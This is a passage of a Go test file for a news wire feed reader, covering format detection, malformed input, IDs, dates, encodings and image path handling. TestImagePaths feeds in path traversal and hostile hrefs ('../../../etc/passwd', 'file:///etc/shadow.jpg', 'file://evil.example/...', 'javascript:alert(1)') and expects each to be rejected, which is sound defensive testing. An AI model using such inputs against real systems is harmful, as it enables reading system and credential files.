		{"Atom entry without title", "<entry xmlns=\"http://www.w3.org/2005/Atom\">\n<id>x</id></entry>", 1, "no headline"},
		{"invalid UTF-8", "<nitf>\n<body>\n<p>x\xff</p></body></nitf>", 3, "invalid UTF-8"},
		{"invalid UTF-8 in JSON", "{\n\"uri\": \"x\xc3\"}", 2, "invalid UTF-8"},
		{"control character", "<nitf>\n<body>\n<p>x\x01</p></body></nitf>", 3, "control character U+0001"},
		{"C1 control character", "{\"uri\": \"x\",\n\"headline\": \"a\u0085\"}", 2, "control character U+0085"},
		{"control character reference", "<nitf>\n<body>\n<p>x&#1;</p></body></nitf>", 3, "illegal character"},
		{"HTML is not a wire format", "<html><body>hi</body></html>", 1, "not NITF, NewsML-G2"},
		{"NewsML root in the wrong namespace", "<newsItem xmlns=\"urn:other\"/>", 1, "not NITF, NewsML-G2"},
		{"plain text", "Just some words", 1, "not a wire format"},
		{"empty", "  \n ", 0, "empty"},
		{"deep JSON", "{\"uri\": \"x\", \"a\": " + strings.Repeat("[", 300) + strings.Repeat("]", 300) + "}", 1, "nested more than"},
		{"deep XML", "<rss>" + strings.Repeat("<x>", 300) + strings.Repeat("</x>", 300) + "</rss>", 1, "nested more than"},
		{"unsupported encoding", "<?xml version=\"1.0\" encoding=\"EBCDIC-CP-US\"?><rss/>", 1, "unsupported character encoding"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			res, err := Read("wire/bad.in", []byte(c.in), Options{Root: "/srv/sources", Dir: "/srv/sources/wire"})
			var e *problem.Problem
			if !errors.As(err, &e) {
				t.Fatalf("err = %v (%T), want *problem.Problem", err, err)
			}
			if e.File != "wire/bad.in" || e.Line != c.line || !strings.Contains(e.Msg, c.msg) {
				t.Errorf("err = %q, want line %d and %q", e.Error(), c.line, c.msg)
			}
			if len(res.Stories) != 0 {
				t.Errorf("stories returned with an error: %d", len(res.Stories))
			}
		})
	}
}

func TestTooLarge(t *testing.T) {
	data := []byte(`{"uri": "x", "headline": "` + strings.Repeat("a", 100) + `"}`)
	_, err := Read("big.json", data, Options{MaxBytes: 50})
	var e *problem.Problem
	if !errors.As(err, &e) || !strings.Contains(e.Msg, "more than the limit of 50") {
		t.Fatalf("err = %v", err)
	}
	if _, err := Read("big.json", data, Options{MaxBytes: 500}); err != nil {
		t.Fatal(err)
	}
}

func TestErrorString(t *testing.T) {
	if got := (&problem.Problem{File: "a.xml", Line: 3, Msg: "bad"}).Error(); got != "a.xml:3: bad" {
		t.Errorf("got %q", got)
	}
	if got := (&problem.Problem{File: "a.xml", Msg: "bad"}).Error(); got != "a.xml: bad" {
		t.Errorf("got %q", got)
	}
}

func TestDetect(t *testing.T) {
	cases := []struct {
		in   string
		want Format
	}{
		{`{"uri": "x", "headline": "h", "body_text": "b"}`, NinJS1},
		{`{"uri": "x", "headline_main": "h"}`, NinJS1},
		{`{"uri": "x", "renditions": {"a": {}}}`, NinJS1},
		{`{"uri": "x", "headlines": [{"value": "h"}], "bodies": []}`, NinJS2},
		{`{"uri": "x", "by": "me"}`, NinJS2},
		{`{"uri": "x", "type": "text"}`, NinJS2},
		{`{"uri": "x", "headlines": [{"value": "h", "contentType": "text/plain"}]}`, NinJS3},
		{`{"uri": "x", "versionCreated": "2024-01-01T00:00:00Z", "headlines": []}`, NinJS3},
		{`{"$schema": "http://www.iptc.org/std/ninjs/ninjs-schema_3.0.json#", "uri": "x"}`, NinJS3},
		{`{"standard": {"name": "ninjs", "version": "2.1"}, "uri": "x", "versionCreated": "z"}`, NinJS2},
		{`{"$standard": {"name": "ninjs", "version": "1.4"}, "uri": "x"}`, NinJS1},
		{`[{"uri": "x", "headlines": [{"value": "h"}]}]`, NinJS2},
		{`{"name": "not news"}`, Unknown},
		{`{"uri": "x", "headline": `, Unknown},
		{"\ufeff<nitf><head/></nitf>", NITF},
		{`<nitf xmlns="http://iptc.org/std/NITF/2006-10-18/"/>`, NITF},
		{`<?xml version="1.0"?><!-- c --><n:newsItem xmlns:n="http://iptc.org/std/nar/2006-10-01/"/>`, NewsMLG2},
		{`<newsMessage xmlns="http://iptc.org/std/nar/2006-10-01/"/>`, NewsMLG2},
		{`<packageItem xmlns="http://iptc.org/std/nar/2006-10-01/"/>`, NewsMLG2},
		{`<newsItem/>`, Unknown},
		{`<rss version="2.0"><channel/></rss>`, RSS},
		{`<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"/>`, RSS},
		{`<feed xmlns="http://www.w3.org/2005/Atom"/>`, Atom},
		{`<feed/>`, Unknown},
		{`<html/>`, Unknown},
		{`hello`, Unknown},
		{``, Unknown},
	}
	for _, c := range cases {
		if got := Detect([]byte(c.in)); got != c.want {
			t.Errorf("Detect(%.60q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestMakeID(t *testing.T) {
	cases := []struct{ in, want string }{
		{"http://ninjs.example.com/newsitems/20130709simp123", "ninjs-example-com-newsitems-20130709simp123"},
		{"urn:newsml:acmenews.com:20161018:US-FINANCE-FED", "newsml-acmenews-com-20161018-us-finance-fed"},
		{"tag:gettyimages.com,2010:GYI0062134533", "gettyimages-com-2010-gyi0062134533"},
		{"NTB5df9281a-a270-4dc5-a618-869bbc3bbca7_00", "ntb5df9281a-a270-4dc5-a618-869bbc3bbca7-00"},
		{"  --  ", "item-"},
	}
	for _, c := range cases {
		got := MakeID(c.in)
		if !strings.HasPrefix(got, c.want) || (c.want != "item-" && got != c.want) {
			t.Errorf("MakeID(%q) = %q, want %q", c.in, got, c.want)
		}
	}
	long := "https://www.example-news-agency.co.in/national/2024/07/02/a-very-long-slug-for-a-story-about-the-monsoon-arriving-early-123456"
	id := MakeID(long)
	if len(id) > 60 || !strings.Contains(id, "123456-") {
		t.Errorf("MakeID(long) = %q (%d chars)", id, len(id))
	}
	if MakeID(long) != id || MakeID(long+"7") == id {
		t.Error("MakeID is not stable or not distinct")
	}
	hi := MakeID("समाचार-१")
	if !strings.HasPrefix(hi, "item-") || MakeID("समाचार-२") == hi {
		t.Errorf("MakeID of Devanagari ids = %q", hi)
	}
	if a, b := MakeID("story-é"), MakeID("story-è"); a == b || !strings.HasPrefix(a, "story-") {
		t.Errorf("accented ids %q and %q", a, b)
	}
	for _, s := range []string{long, "urn:x:Y", "समाचार", "a b c"} {
		for _, r := range MakeID(s) {
			if !(r >= 'a' && r <= 'z' || r >= '0' && r <= '9' || r == '-') {
				t.Errorf("MakeID(%q) has %q", s, r)
			}
		}
	}
}

func TestPriority(t *testing.T) {
	want := map[int]int{1: 1, 2: 1, 3: 2, 4: 2, 5: 3, 6: 4, 7: 4, 8: 5, 9: 5, 0: 0, 10: 0, -1: 0}
	for u, p := range want {
		if got := priority(u); got != p {
			t.Errorf("priority(%d) = %d, want %d", u, got, p)
		}
	}
	// Missing urgency gives the default priority; out of range is a warning.
	res, err := Read("u.json", []byte(`{"uri": "x", "headline": "h", "urgency": 12}`), Options{})
	if err != nil {
		t.Fatal(err)
	}
	if res.Stories[0].Priority != story.PriorityDefault || len(res.Warnings) != 1 {
		t.Errorf("priority %d, warnings %v", res.Stories[0].Priority, res.Warnings)
	}
}

func TestParseTime(t *testing.T) {
	ist := time.FixedZone("", 5*3600+1800)
	cases := []struct {
		in   string
		want time.Time
	}{
		{"2024-07-02T19:42:10+05:30", time.Date(2024, 7, 2, 19, 42, 10, 0, ist)},
		{"2024-07-02T14:12:10.5Z", time.Date(2024, 7, 2, 14, 12, 10, 5e8, time.UTC)},
		{"Tue, 02 Jul 2024 19:42:10 IST", time.Date(2024, 7, 2, 19, 42, 10, 0, ist)},
		{"Tue, 2 Jul 2024 14:12:10 GMT", time.Date(2024, 7, 2, 14, 12, 10, 0, time.UTC)},
		{"Tue, 02 Jul 2024 19:42:10 +0530", time.Date(2024, 7, 2, 19, 42, 10, 0, ist)},
		{"02 Jul 2024 19:42 +0530", time.Date(2024, 7, 2, 19, 42, 0, 0, ist)},
		{"20240702T194210+0530", time.Date(2024, 7, 2, 19, 42, 10, 0, ist)},
		{"20240702T141210Z", time.Date(2024, 7, 2, 14, 12, 10, 0, time.UTC)},
		{"20240702T194210", time.Date(2024, 7, 2, 19, 42, 10, 0, ist)},
		{"2024-07-02T19:42:10", time.Date(2024, 7, 2, 19, 42, 10, 0, ist)},
		{"2024-07-02", time.Date(2024, 7, 2, 0, 0, 0, 0, ist)},
	}
	for _, c := range cases {
		got, err := parseTime(c.in, ist)
		if err != nil || !got.Equal(c.want) {
			t.Errorf("parseTime(%q) = %v, %v; want %v", c.in, got, err, c.want)
		}
	}
	if _, err := parseTime("next Tuesday", time.UTC); err == nil {
		t.Error("no error for an unreadable date")
	}
	// An unreadable date is a warning, the story is kept.
	res, err := Read("d.json", []byte("{\"uri\": \"x\", \"headline\": \"h\",\n\"versioncreated\": \"soon\"}"), Options{})
	if err != nil || len(res.Warnings) != 1 || !res.Stories[0].Published.IsZero() {
		t.Errorf("err %v, warnings %v", err, res.Warnings)
	}
}

func TestLocation(t *testing.T) {
	ist := time.FixedZone("IST", 5*3600+1800)
	data := []byte(`<nitf><head><docdata><date.issue norm="20240702T101500"/></docdata></head><body><body.head><hedline><hl1>H</hl1></hedline></body.head></body></nitf>`)
	res, err := Read("n.xml", data, Options{Location: ist})
	if err != nil {
		t.Fatal(err)
	}
	if want := time.Date(2024, 7, 2, 10, 15, 0, 0, ist); !res.Stories[0].Published.Equal(want) {
		t.Errorf("published %v, want %v", res.Stories[0].Published, want)
	}
}

func TestChooseRendition(t *testing.T) {
	r := func(name string, w, h int, size int64) rendition {
		return rendition{href: name + ".jpg", name: name, width: w, height: h, size: size}
	}
	cases := []struct {
		name  string
		rends []rendition
		want  string
	}{
		{"largest within bounds", []rendition{r("thumb", 200, 100, 0), r("web", 1200, 800, 0), r("orig", 6000, 4000, 0)}, "web"},
		{"exactly 4000", []rendition{r("a", 4000, 3000, 0), r("b", 1000, 800, 0)}, "a"},
		{"too many bytes", []rendition{r("a", 3000, 2000, 30<<20), r("b", 1000, 800, 1<<20)}, "b"},
		{"all too large: smallest", []rendition{r("a", 9000, 6000, 0), r("b", 5000, 4000, 0)}, "b"},
		{"no sizes: by name", []rendition{r("thumbnail", 0, 0, 0), r("highres", 0, 0, 0), r("preview", 0, 0, 0)}, "highres"},
		{"not images", []rendition{{href: "a.mp4", mime: "video/mp4", width: 100, height: 100}, r("pic", 10, 10, 0)}, "pic"},
	}
	for _, c := range cases {
		got, ok := chooseRendition(c.rends)
		if !ok || got.name != c.want {
			t.Errorf("%s: chose %q, want %q", c.name, got.name, c.want)
		}
	}
	if _, ok := chooseRendition([]rendition{{href: ""}, {href: "a.mp4", mime: "video/mp4"}}); ok {
		t.Error("chose a rendition from none usable")
	}
}

func TestImagePaths(t *testing.T) {
	root := filepath.FromSlash("/srv/sources")
	dir := filepath.Join(root, "wire", "pti")
	cases := []struct {
		href, file, url, warn string
	}{
		{href: "photo.jpg", file: filepath.Join(dir, "photo.jpg")},
		{href: "./pics/../photo.jpg", file: filepath.Join(dir, "photo.jpg")},
		{href: "../../photos/a.jpg", file: filepath.Join(root, "photos", "a.jpg")},
		{href: "../../../etc/passwd", warn: "outside the sources folder"},
		{href: "../../..0", file: filepath.Join(root, "..0")},
		{href: "..hidden.jpg", file: filepath.Join(dir, "..hidden.jpg")},
		{href: "/etc/passwd", warn: "outside the sources folder"},
		{href: filepath.ToSlash(filepath.Join(root, "photos", "b.jpg")), file: filepath.Join(root, "photos", "b.jpg")},
		{href: "file:///etc/shadow.jpg", warn: "outside the sources folder"},
		{href: "file://" + filepath.ToSlash(filepath.Join(root, "c.jpg")), file: filepath.Join(root, "c.jpg")},
		{href: "file://evil.example/c.jpg", warn: "another host"},
		{href: "https://img.example.in/a.jpg?w=1200", url: "https://img.example.in/a.jpg?w=1200"},
		{href: "HTTP://img.example.in/b.jpg", url: "HTTP://img.example.in/b.jpg"},
		{href: "ftp://img.example.in/c.jpg", warn: "only http(s) addresses and local files"},
		{href: "javascript:alert(1)", warn: "only http(s) addresses and local files"},
		{href: "http:///nohost.jpg", warn: "not a usable address"},
	}
	for _, c := range cases {
		r := &reader{name: "f", opts: Options{Root: root, Dir: dir}}
		got, ok := r.image(picture{rends: []rendition{{href: c.href}}, line: 7})
		if c.warn != "" {
			if ok || len(r.warnings) != 1 || !strings.Contains(r.warnings[0].Msg, c.warn) || r.warnings[0].Line != 7 {
				t.Errorf("%q: got %+v, warnings %v; want a warning %q", c.href, got, r.warnings, c.warn)
			}
			continue
		}
		if !ok || got.File != c.file || got.URL != c.url || len(r.warnings) != 0 {
			t.Errorf("%q: got %+v (ok %v, warnings %v), want file %q url %q", c.href, got, ok, r.warnings, c.file, c.url)
		}
	}
	// Without a root, Dir is the root.
	r := &reader{name: "f", opts: Options{Dir: dir}}
	if _, ok := r.image(picture{rends: []rendition{{href: "../x.jpg"}}}); ok {
		t.Error("image outside Dir kept when Root is empty")
	}
}

func TestEncodings(t *testing.T) {
	// ISO-8859-1 declared and used.
	latin := append([]byte(`<?xml version="1.0" encoding="ISO-8859-1"?>`+"\n<nitf><body><body.head><hedline><hl1>Caf"), 0xE9)
	latin = append(latin, []byte("</hl1></hedline></body.head></body></nitf>")...)
	res, err := Read("l.xml", latin, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if got := res.Stories[0].Headline; got != "Café" {
		t.Errorf("latin-1 headline %q", got)
	}
	// Windows-1252 quotes.
	cp := append([]byte(`<?xml version="1.0" encoding="windows-1252"?><rss><channel><item><title>`), 0x93, 'Q', 0x94)
	cp = append(cp, []byte("</title></item></channel></rss>")...)
	res, err = Read("w.xml", cp, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if got := res.Stories[0].Headline; got != "“Q”" {
		t.Errorf("cp1252 headline %q", got)
	}
	// UTF-16 with a byte order mark.
	src := `<?xml version="1.0" encoding="UTF-16"?><rss><channel><item><title>समाचार</title></item></channel></rss>`
	u16 := []byte{0xFF, 0xFE}
	for _, r := range src {
		u16 = append(u16, byte(r), byte(r>>8))
	}
	res, err = Read("u.xml", u16, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if got := res.Stories[0].Headline; got != "समाचार" {
		t.Errorf("utf-16 headline %q", got)
	}
}

func TestFeedVariants(t *testing.T) {
	cases := []struct {
		name, in string
		want     []string // headline|byline|first block|image
	}{
		{"RSS 1.0", `<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel rdf:about="https://x.example.in/"><title>c</title></channel>
<item rdf:about="https://x.example.in/a"><title>RDF item</title><dc:creator>PTI</dc:creator><description>Body.</description></item>
</rdf:RDF>`, []string{"RDF item|PTI|Body.|"}},
		{"undeclared prefixes", `<rss><channel><item><title>T</title><content:encoded>&lt;p&gt;Full&lt;/p&gt;</content:encoded><description>Teaser</description>
<media:content url="https://x.example.in/a.jpg" medium="image"><media:credit>C</media:credit></media:content></item></channel></rss>`,
			[]string{"T||Full|https://x.example.in/a.jpg"}},
		{"author e-mail only", `<rss><channel><item><title>T</title><author>desk@x.example.in</author><description>B</description></item></channel></rss>`,
			[]string{"T||B|"}},
		{"thumbnails when nothing else", `<rss xmlns:media="http://search.yahoo.com/mrss/"><channel><item><title>T</title><description>B</description>
<media:thumbnail url="https://x.example.in/s.jpg" width="150" height="100"/><media:thumbnail url="https://x.example.in/m.jpg" width="600" height="400"/></item></channel></rss>`,
			[]string{"T||B|https://x.example.in/m.jpg"}},
		{"figure in the body", `<rss><channel><item><title>T</title><description><![CDATA[<p>B</p><figure><img src="https://x.example.in/f.jpg" alt="x"><figcaption>Cap</figcaption></figure><img src="https://x.example.in/pixel.gif" width="1" height="1">]]></description></item></channel></rss>`,
			[]string{"T||B|https://x.example.in/f.jpg"}},
		{"Atom entry document", `<entry xmlns="http://www.w3.org/2005/Atom"><title>E</title><id>urn:x</id><author><name>A</name></author><content src="https://x.example.in/e"/><summary type="html">&lt;p&gt;S&lt;/p&gt;</summary></entry>`,
			[]string{"E|A|S|"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			res, err := Read("f.xml", []byte(c.in), Options{})
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, s := range res.Stories {
				first, image := "", ""
				if len(s.Body) > 0 {
					first = s.Body[0].Text()
				}
				if len(s.Images) > 0 {
					image = s.Images[0].URL
				}
				got = append(got, strings.Join([]string{s.Headline, s.Byline, first, image}, "|"))
			}
			if strings.Join(got, "\n") != strings.Join(c.want, "\n") {
				t.Errorf("got %q, want %q", got, c.want)
			}
		})
	}
}

// A figure's caption is the image's; a local picture without a root to
// resolve it against is left out with a warning.
func TestImagesWithoutRoot(t *testing.T) {
	res, err := Read("n.xml", []byte(`<nitf><body><body.head><hedline><hl1>H</hl1></hedline></body.head><body.content><p>x</p>
<media media-type="image"><media-reference source="a.jpg"/></media></body.content></body></nitf>`), Options{})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Stories[0].Images) != 0 || len(res.Warnings) != 1 || !strings.Contains(res.Warnings[0].Msg, "no sources root") || res.Warnings[0].Line != 2 {
		t.Errorf("images %v, warnings %v", res.Stories[0].Images, res.Warnings)
	}
}

// Every story of a file gets an id, from the source or from the file name.
func TestIDsFromFileName(t *testing.T) {
	res, err := Read("wire/PTI Feed.xml", []byte(`<rss><channel><item><title>A</title></item><item><title>B</title></item></channel></rss>`), Options{})
	if err != nil {
		t.Fatal(err)
	}
	if res.Stories[0].ID != "pti-feed-1" || res.Stories[1].ID != "pti-feed-2" {
		t.Errorf("ids %q %q", res.Stories[0].ID, res.Stories[1].ID)
	}
}

func TestControlReferenceLine(t *testing.T) {
	_, err := Read("c.xml", []byte("<nitf>\n<body>\n<p>one\ntwo\nthree&#x85;</p></body></nitf>"), Options{})
	var e *problem.Problem
	if !errors.As(err, &e) || e.Line != 5 || !strings.Contains(e.Msg, "U+0085") {
		t.Errorf("err = %v", err)
	}
}
